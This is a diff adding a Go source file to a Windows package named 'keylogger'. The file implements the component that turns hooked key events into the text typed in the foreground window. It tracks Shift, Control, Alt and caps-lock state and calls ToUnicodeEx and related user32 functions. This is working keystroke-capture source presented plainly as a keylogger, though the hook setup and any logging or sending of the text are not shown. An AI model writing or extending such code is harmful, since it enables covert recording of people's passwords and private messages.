@@ -0,0 +1,126 @@
+package keylogger
+
+import (
+	"syscall"
+	"unsafe"
+)
+
+var (
+	toUnicodeEx       = user32.NewProc("ToUnicodeEx")
+	getKeyboardLayout = user32.NewProc("GetKeyboardLayout")
+	getKeyState       = user32.NewProc("GetKeyState")
+)
+
+/*
+	Do not change the keyboard state of the kernel; ToUnicodeEx would
+	otherwise consume pending dead keys the application is about to see.
+*/
+const toUnicodeNoStateChange = 0x4
+
+/*
+	Translates key events into the characters they type in the layout of the
+	foreground window. Key state is tracked from the hook events themselves,
+	since the hook thread never has the keyboard focus and its own key state
+	stays stale.
+*/
+type translator struct {
+	api  keyboardLayout
+	down [256]bool
+	caps bool
+	text textCache
+
+	// Scratch buffers for ToUnicodeEx, kept here so they are not allocated per key.
+	state [256]byte
+	buf   [8]uint16
+}
+
+func newTranslator(api keyboardLayout) *translator {
+	return &translator{api: api, caps: api.KeyState(VK_CAPITAL)&1 != 0}
+}
+
+/*
+	Records the transition and returns the text the key types, if any.
+	Only printable characters, tab and newline are returned.
+*/
+func (t *translator) translate(e KeyEvent) string {
+	t.down[byte(e.VkCode)] = e.Down
+	if !e.Down {
+		return ""
+	}
+	switch e.VkCode {
+	case VK_CAPITAL:
+		t.caps = !t.caps
+		return ""
+	case VK_PACKET:
+		// Unicode input from SendInput carries the character in the scan code.
+		return t.text.rune(rune(e.ScanCode))
+	}
+
+	state := &t.state
+	*state = [256]byte{}
+	for vk, down := range t.down {
+		if down {
+			state[vk] = 0x80
+		}
+	}
+	for _, m := range [][3]int{
+		{VK_SHIFT, VK_LSHIFT, VK_RSHIFT},
+		{VK_CONTROL, VK_LCONTROL, VK_RCONTROL},
+		{VK_MENU, VK_LMENU, VK_RMENU},
+	} {
+		if t.down[m[1]] || t.down[m[2]] {
+			state[m[0]] = 0x80
+		}
+	}
+	if t.caps {
+		state[VK_CAPITAL] = 0x01
+	}
+
+	n := t.api.ToUnicode(uint32(e.VkCode), e.ScanCode, state, t.buf[:])
+	if n <= 0 {
+		return ""
+	}
+	return t.text.text(t.buf[:n])
+}
+
+/*
+	Translates the specified virtual-key code and keyboard state to the corresponding Unicode character or characters.
+	https://docs.microsoft.com/en-us/windows/win32/api/winuser/nf-winuser-tounicodeex
+*/
+func ToUnicodeEx(wVirtKey uint32, wScanCode uint32, lpKeyState *[256]byte, pwszBuff *uint16, cchBuff int32, wFlags uint32, dwhkl uintptr) int32 {
+	// Called for every key: unlike Proc.Call, Syscall9 does not allocate.
+	ret, _, _ := syscall.Syscall9(toUnicodeEx.Addr(), 7,
+		uintptr(wVirtKey),
+		uintptr(wScanCode),
+		uintptr(unsafe.Pointer(lpKeyState)),
+		uintptr(unsafe.Pointer(pwszBuff)),
+		uintptr(cchBuff),
+		uintptr(wFlags),
+		dwhkl,
+		0, 0,
+	)
+	return int32(ret)
+}
+
+/*
+	Retrieves the active input locale identifier (formerly called the keyboard layout) for the specified thread.
+	https://docs.microsoft.com/en-us/windows/win32/api/winuser/nf-winuser-getkeyboardlayout
+*/
+func GetKeyboardLayout(idThread uint32) uintptr {
+	ret, _, _ := syscall.Syscall(getKeyboardLayout.Addr(), 1,
+		uintptr(idThread),
+		0, 0,
+	)
+	return ret
+}
+
+/*
+	Retrieves the status of the specified virtual key: whether it is up, down, or toggled.
+	https://docs.microsoft.com/en-us/windows/win32/api/winuser/nf-winuser-getkeystate
+*/
+func GetKeyState(nVirtKey int) int16 {
+	ret, _, _ := getKeyState.Call(
+		uintptr(nVirtKey),
+	)
+	return int16(ret)
+}